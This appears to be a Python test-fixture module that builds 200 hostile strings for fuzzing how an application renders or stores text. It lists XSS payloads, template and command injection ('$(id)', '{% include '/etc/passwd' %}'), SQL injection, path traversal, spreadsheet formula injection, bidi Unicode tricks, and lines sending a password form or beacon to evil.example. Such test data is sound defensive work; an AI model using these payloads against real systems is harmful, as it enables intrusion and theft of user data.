"""Two hundred texts that want to be more than text: scripts, turned directions, emoji, 10,000 characters, template syntax."""

from collections.abc import Iterator
from itertools import cycle, islice

LONG = 10_000
SCRIPTS = (
    "<script>window.ran = 1</script>",
    "</script><script>window.ran = 1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg/onload=window.ran=1>",
    '"><script>window.ran = 1</script>',
    "' onmouseover='window.ran=1",
    '<a href="javascript:window.ran=1">here</a>',
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "</title><script>window.ran = 1</script>",
    "</style><script>window.ran = 1</script>",
    "<!--<script>--><script>window.ran = 1</script>",
    "]]><script>window.ran = 1</script>",
    "</textarea><script>window.ran = 1</script>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "<details open ontoggle=window.ran=1>",
)
TURNED = (
    "\u202eevil\u202c",
    "\u202d\u202e\u2066\u2067 abc",
    "شخصية \u200fعربية\u200f",
    "דמות \u2067abc\u2069",
    "\ufeffname\u200b\u200b",
    "a\u0300" * 60,
    "Z\u0351\u036b\u0343a\u0363l\u0308g\u036fo",
    "\u0000null\u0001\u001b[31m",
    "line one\nline two\r\nline three\u2028line four\u2029",
    "\ud83d half a pair".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
)
PICTURES = ("🦊", "👩‍👩‍👧‍👦 family", "🏳️‍🌈", "🇩🇪🇯🇵", "🔥" * 200, "李小龙", "Łódź ß ﬁ", "ＦＵＬＬ", "𝕬𝖑𝖎𝖈𝖊", "꧁༺ name ༻꧂")
TEMPLATES = (
    "{{ 7*7 }}",
    "{{constructor.constructor('window.ran=1')()}}",
    "${7*7}",
    "${window.ran=1}",
    "{% include '/etc/passwd' %}",
    "{%- for x in y -%}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{0.__class__}",
    "%s%s%n",
    "$(id)",
    "`id`",
    "[link](javascript:window.ran=1)",
    "![](https://evil.example/a.png)",
    '{"@type": "Person"}',
    "'; DROP TABLE publication; --",
    "../../etc/passwd",
    "C:\\nul",
    '=HYPERLINK("https://evil.example")',
    "__proto__",
)
LONG_ONES = ("a" * LONG, "<b>" * (LONG // 3), "word " * (LONG // 5), "\u202e" * LONG, "🦊" * LONG, "{{" * (LONG // 2))
KINDS = (*SCRIPTS, *TURNED, *PICTURES, *TEMPLATES, *LONG_ONES)
COUNT = 200


def hostile_texts() -> list[str]:
    """All kinds, then pairs of them, until there are two hundred different ones."""
    return list(islice(_texts(), COUNT))


def _texts() -> Iterator[str]:
    yield from KINDS
    for number, (one, other) in enumerate(zip(cycle(SCRIPTS), cycle((*TURNED, *TEMPLATES, *PICTURES)), strict=False)):
        yield f"{other} {one} {number}"
